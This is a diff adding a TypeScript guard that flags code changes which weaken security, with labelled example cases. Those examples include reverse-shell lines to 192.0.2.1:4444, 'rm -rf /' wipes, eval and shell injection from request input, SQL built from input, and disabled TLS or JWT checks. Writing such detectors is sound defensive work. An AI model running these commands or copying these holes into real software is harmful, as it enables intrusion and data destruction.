@@ -1,0 +1,281 @@
+/** Added code that is less safe than what was there: told by what the code does, line by line, and never by comments, texts or docs. */
+import { z } from 'zod';
+import { type AddedLine, addedCode, codeLanguageOf } from '../core/added-code.ts';
+import { guard } from '../core/contracts.ts';
+import { lossesOf } from '../core/data-loss.ts';
+import type { FileChange, Line, Opinion, Scene } from '../core/model.ts';
+import { lostChecks } from '../core/removed-checks.ts';
+import { SECURITY_RULES, type SecurityRule, STARTS_PROGRAM } from '../core/security-rules.ts';
+import { isTestPath } from '../core/test-paths.ts';
+import { shorten } from '../core/text.ts';
+
+/** Code that tests, examples and build output are made of: shown or generated, not run for anybody. */
+const isAside = (path: string): boolean =>
+  isTestPath(path) ||
+  /(?:^|\/)(?:fixtures?|__fixtures__|mocks?|__mocks__|testdata|examples?|samples?|benchmarks?|docs?|demos?)\//i.test(path);
+
+/** Where a rule matches a line, in the part of it that the rule looks at. */
+const matchOf = (line: AddedLine, rule: SecurityRule, isShell: boolean): string | undefined => {
+  const text = (rule.on === 'bare' ? line.bare : line.code).slice(0, 2_000);
+  const match = rule.pattern.exec(text);
+  if (match === null) return undefined;
+  const start = match.index + match[0].search(/\S/);
+  const end = match.index + match[0].trimEnd().length;
+  // A quoted key, or a call around texts, is code that holds strings; what is all blank stands inside of one.
+  const inside = rule.on === 'command' ? line.bare[start] === ' ' : line.bare.slice(start, end).trim() === '';
+  if (!inside) return rule.on === 'command' && !isShell ? undefined : match[0].trim();
+  if (rule.on !== 'command') return undefined;
+  const starts = isShell ? /\b(?:sh|bash|zsh|eval|ssh|su|exec|run|-c)\b/ : STARTS_PROGRAM;
+  return starts.test(text.slice(0, start)) ? match[0].trim() : undefined;
+};
+
+const opinion = (
+  line: Line,
+  file: string,
+  rule: Pick<SecurityRule, 'rule' | 'decision' | 'says' | 'fix'>,
+  what: string,
+): Opinion => ({
+  decision: rule.decision,
+  rule: rule.rule,
+  message: `\`${shorten(what, 120)}\` ${rule.says}`,
+  fix: rule.decision === 'ask' ? `${rule.fix}, or let a person approve it` : rule.fix,
+  place: { file, line: line.n },
+  subject: `${rule.rule} ${what}`,
+});
+
+const matches = (
+  lines: readonly AddedLine[],
+  rule: SecurityRule,
+  isShell: boolean,
+): readonly { line: AddedLine; what: string }[] =>
+  lines.flatMap(line => {
+    const what = matchOf(line, rule, isShell);
+    if (what === undefined) return [];
+    const { and, near = 0 } = rule;
+    const helps = ({ n, code }: AddedLine): boolean => Math.abs(n - line.n) <= near && and!.test(code.slice(0, 2_000));
+    return and === undefined || lines.some(helps) ? [{ line, what }] : [];
+  });
+
+const inCode = (
+  path: string,
+  added: readonly Line[],
+  removed: readonly Line[],
+  isGenerated: boolean,
+  wasThere: (text: string) => boolean,
+): Opinion[] => {
+  const language = codeLanguageOf(path);
+  if (language === undefined) return [];
+  const aside = isAside(path);
+  const lines = addedCode(added, language);
+  const rules = SECURITY_RULES.filter(
+    ({ tests, decision, files }) =>
+      (tests === true || !aside) && (decision === 'deny' || !isGenerated) && files?.test(path) !== false,
+  );
+  return rules.flatMap(rule => {
+    const found = matches(lines, rule, language === 'shell').filter(({ line }) => !wasThere(line.text));
+    if (found.length === 0) return [];
+    // A line that was as unsafe before it was edited is no regression.
+    const had = matches(addedCode(removed, language), rule, language === 'shell').length;
+    return found.slice(had).map(({ line, what }) => opinion(line, path, rule, what));
+  });
+};
+
+const LOSS = {
+  'drops-data': 'loses data when it is applied',
+  'protection-off': 'takes the protection of data away',
+  'open-to-all': 'opens it to everybody',
+} as const;
+
+const inChange = (change: FileChange, scene: Scene): Opinion[] => {
+  const path = change.path.real;
+  if (isAside(path) || change.generated) return [];
+  return [
+    ...lossesOf(change).map(({ rule, line, what }) =>
+      opinion(line, path, { rule, decision: 'ask', says: LOSS[rule], fix: 'keep it' }, what),
+    ),
+    ...(codeLanguageOf(path) === undefined ? [] : lostChecks(change, scene.files)).map(({ line, what, commented }) =>
+      opinion(
+        line,
+        path,
+        {
+          rule: 'check-removed',
+          decision: 'ask',
+          says: commented ? 'is commented out' : 'is no longer asked',
+          fix: 'keep the check',
+        },
+        what,
+      ),
+    ),
+  ];
+};
+
+const write = (path: string, lines: readonly string[], removed: readonly string[] = []) => ({
+  act: { do: 'write' as const, path, lines, removed },
+});
+const patch = (path: string, before: string | null, after: string) => ({ files: [{ path, before, after }] });
+
+export const securityRegression = guard({
+  id: 'security-regression',
+  key: 'security_regression',
+  doc: 'Asks about added code that checks less than before: certificates, signatures, logins, permissions, data that is dropped; refuses shells to the network and programs out of input.',
+  options: z.strictObject({
+    enabled: z.boolean().default(true).describe('Off: added code is not looked at for this.'),
+  }),
+  compile({ enabled }) {
+    return (effect, { scene }) => {
+      if (!enabled || effect.kind !== 'write') return [];
+      const { change, path, added, removed } = effect;
+      // Code that moves from one place of the change to another was there.
+      const texts = new Map<string, boolean>();
+      const wasThere = (text: string): boolean => {
+        const bare = text.trim();
+        const known =
+          texts.get(bare) ?? [{ removed }, ...scene.files].some(file => file.removed.some(line => line.text.trim() === bare));
+        texts.set(bare, known);
+        return known;
+      };
+      return [
+        ...inCode(path.real, added, removed, change?.generated === true, wasThere),
+        ...(change === undefined ? [] : inChange(change, scene)),
+      ];
+    };
+  },
+  examples: [
+    {
+      ...write('src/http.ts', ['const agent = new Agent({', '  rejectUnauthorized: false,', '});']),
+      decision: 'ask',
+      rule: 'tls-off',
+      twin: write('src/http.ts', [
+        '// rejectUnauthorized: false would switch the check off',
+        'const agent = new Agent({ rejectUnauthorized: true });',
+      ]),
+    },
+    {
+      ...write('app/client.py', ['r = requests.get(url, verify=False)']),
+      decision: 'ask',
+      rule: 'tls-off',
+      twin: write('app/client.py', ['r = requests.get(url, verify=ca_file)', 'print("never pass verify=False")']),
+    },
+    {
+      ...write('pkg/dial.go', ['cfg := &tls.Config{InsecureSkipVerify: true}']),
+      decision: 'ask',
+      rule: 'tls-off',
+      twin: write('pkg/dial_test.go', ['cfg := &tls.Config{InsecureSkipVerify: true}']),
+    },
+    {
+      ...write('scripts/get.sh', ['curl -ksSL https://x.example/a.tgz -o a.tgz']),
+      decision: 'ask',
+      rule: 'tls-off',
+      twin: write('scripts/get.sh', ['curl -sSL --keepalive-time 2 https://x.example/k -o k.tgz']),
+    },
+    {
+      ...write('src/server.ts', ["app.use(cors({ origin: '*', credentials: true }));"]),
+      decision: 'ask',
+      rule: 'cors-open',
+      twin: write('src/server.ts', ["app.use(cors({ origin: 'https://app.example', credentials: true }));"]),
+    },
+    {
+      ...write('src/run.js', ['const out = eval(req.body.code);']),
+      decision: 'deny',
+      rule: 'runs-input',
+      twin: write('src/run.js', ['const out = pattern.exec(req.body.code);']),
+    },
+    {
+      ...write('app/run.py', ['os.system("convert " + request.args["name"])']),
+      decision: 'deny',
+      rule: 'runs-input',
+      twin: write('app/run.py', ['name = request.args["name"]', 'subprocess.run(["convert", "--", FILES[name]])']),
+    },
+    {
+      ...write('src/db.ts', ['const rows = await db.query(`SELECT id FROM users WHERE name = ${req.query.name}`);']),
+      decision: 'ask',
+      rule: 'query-from-input',
+      twin: write('src/db.ts', ["const rows = await db.query('SELECT id FROM users WHERE name = $1', [req.query.name]);"]),
+    },
+    {
+      ...write('deploy/setup.sh', ['chmod -R 777 /srv/app']),
+      decision: 'ask',
+      rule: 'open-permissions',
+      twin: write('deploy/setup.sh', ['chmod -R 755 /srv/app', 'echo "chmod 777 is not needed"']),
+    },
+    {
+      ...write('scripts/start.sh', ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1']),
+      decision: 'deny',
+      rule: 'opens-shell',
+      twin: write('docs/attacks.md', ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1']),
+    },
+    {
+      ...write('lib/conn.py', [
+        's = socket.socket()',
+        's.connect(("192.0.2.1", 4444))',
+        'os.dup2(s.fileno(), 0)',
+        'pty.spawn("/bin/sh")',
+      ]),
+      decision: 'deny',
+      rule: 'opens-shell',
+      twin: write('lib/conn.py', ['s = socket.socket()', 's.connect(("192.0.2.1", 4444))', 's.sendall(data)']),
+    },
+    {
+      ...write('tools/clean.sh', ['rm -rf /']),
+      decision: 'deny',
+      rule: 'wipes-machine',
+      twin: write('tools/clean.sh', ['rm -rf /var/lib/apt/lists/* ./build', '# never run rm -rf /']),
+    },
+    {
+      ...write('src/rules.ts', ["execSync('rm -rf ~/');"]),
+      decision: 'deny',
+      rule: 'wipes-machine',
+      twin: write('src/rules.ts', ["const forbidden = ['rm -rf ~/'];"]),
+    },
+    {
+      ...write('web/app.py', ['app.run(host="0.0.0.0", debug=True)']),
+      decision: 'ask',
+      rule: 'debug-on',
+      twin: write('web/app.py', ['app.run(host="0.0.0.0", debug=config.debug)']),
+    },
+    {
+      ...write('src/auth.py', ['payload = jwt.decode(token, key, options={"verify_signature": False})']),
+      decision: 'ask',
+      rule: 'check-off',
+      twin: write('src/auth.py', ['payload = jwt.decode(token, key, options={"verify_signature": True})']),
+    },
+    {
+      ...patch('src/routes.ts', "router.post('/pay', requireAuth(), pay);\n", "router.post('/pay', pay);\n"),
+      decision: 'ask',
+      rule: 'check-removed',
+      twin: patch(
+        'src/routes.ts',
+        "router.post('/pay', requireAuth(), pay);\n",
+        "router.post('/pay', requireAuth('admin'), pay);\n",
+      ),
+    },
+    {
+      ...patch('src/hook.js', 'verifySignature(req);\nrun(req);\n', '// verifySignature(req);\nrun(req);\n'),
+      decision: 'ask',
+      rule: 'check-removed',
+      twin: patch('src/hook.js', 'verifySignature(req);\nrun(req);\n', '// first of all\nverifySignature(req);\nrun(req);\n'),
+    },
+    {
+      ...patch('migrations/0002_drop.sql', null, 'DROP TABLE users;\n'),
+      decision: 'ask',
+      rule: 'drops-data',
+      twin: patch('migrations/0002_add.sql', null, 'ALTER TABLE users ADD COLUMN name text;\n'),
+    },
+    {
+      ...patch(
+        'infra/main.tf',
+        '  lifecycle {\n    prevent_destroy = true\n  }\n',
+        '  lifecycle {\n    prevent_destroy = false\n  }\n',
+      ),
+      decision: 'ask',
+      rule: 'protection-off',
+      twin: patch(
+        'infra/main.tf',
+        '  lifecycle {\n    prevent_destroy = true\n  }\n',
+        '  lifecycle {\n    # keep\n    prevent_destroy = true\n  }\n',
+      ),
+    },
+    { options: { enabled: false }, ...write('src/run.js', ['eval(req.body.code)']), decision: 'none' },
+    { ...write('src/scan.ts', ['while ((m = re.exec(text)) !== null) found.push(m);']), decision: 'none' },
+  ],
+});
